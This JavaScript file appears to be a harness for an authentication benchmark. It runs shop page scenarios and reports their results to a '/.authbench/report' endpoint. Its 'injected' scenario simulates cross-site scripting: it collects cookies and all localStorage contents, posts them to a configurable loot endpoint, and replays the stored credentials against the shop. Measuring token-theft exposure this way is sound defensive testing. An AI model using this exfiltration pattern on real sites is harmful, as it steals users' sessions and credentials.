// What pages of the shop's own do. "shop" says which of it.
"use strict";

const placed = (text) => {
	for (const [name, mark] of Object.entries(shop.marks)) {
		text = text.replaceAll(mark, localStorage.getItem(name) ?? "");
	}
	return text;
};

// One request of the contract, with what this browser has stored put in its place.
async function send(o) {
	const headers = Object.fromEntries(Object.entries(o.headers ?? {}).map(([name, value]) => [name, placed(value)]));
	const r = await fetch(placed(o.path), {method: o.method, headers, body: o.body ? placed(o.body) : undefined});
	return {status: r.status, text: await r.text()};
}

const pages = {
	// The log-in is over: what a script has to send itself is stored.
	enter: async () => {
		localStorage.clear();
		for (const [name, value] of Object.entries(shop.stored)) {
			localStorage.setItem(name, value);
		}
		return {read: document.cookie};
	},
	// The user makes the change.
	own: async () => ({status: (await send(shop.change)).status}),
	// A script that somebody has put into the page.
	injected: async () => {
		const loot = JSON.stringify({cookie: document.cookie, stored: {...localStorage}});
		await fetch(shop.loot, {method: "POST", mode: "no-cors", body: loot}).catch(() => {});
		const use = await send(shop.use);
		return {read: use.text, status: (await send(shop.change)).status};
	},
};

pages[shop.page]()
	.catch((e) => ({error: String(e)}))
	.then((r) => fetch("/.authbench/report", {method: "POST", body: JSON.stringify({n: shop.n, ...r})}));
